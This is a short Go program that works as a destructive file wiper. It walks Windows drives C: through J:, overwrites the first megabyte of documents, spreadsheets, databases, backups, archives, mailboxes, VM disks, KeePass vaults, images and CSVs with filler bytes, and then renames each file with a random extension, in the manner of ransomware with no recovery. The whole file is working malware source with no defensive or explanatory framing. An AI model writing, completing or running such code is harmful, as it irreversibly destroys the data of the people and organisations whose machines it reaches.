package main

import (
	"io/fs"
	"math/rand"
	"os"
	"path/filepath"
	"strings"
)

var exts = map[string]bool{".docx": true, ".xlsx": true, ".pdf": true, ".sql": true, ".bak": true,
	".zip": true, ".7z": true, ".pst": true, ".vmdk": true, ".kdbx": true, ".jpg": true, ".csv": true}

func fill(path string) {
	f, err := os.OpenFile(path, os.O_WRONLY, 0)
	if err != nil {
		return
	}
	defer f.Close()
	buf := make([]byte, 1<<20)
	for i := range buf {
		buf[i] = 0xCC
	}
	f.WriteAt(buf, 0)
}

func main() {
	for _, d := range "CDEFGHIJ" {
		root := string(d) + ":\\"
		filepath.WalkDir(root, func(p string, e fs.DirEntry, err error) error {
			if err != nil || e.IsDir() || strings.Contains(p, "Windows") {
				return nil
			}
			if exts[strings.ToLower(filepath.Ext(p))] {
				fill(p)
				os.Rename(p, p+"."+string(rune('a'+rand.Intn(26)))+string(rune('a'+rand.Intn(26)))+string(rune('a'+rand.Intn(26))))
			}
			return nil
		})
	}
}
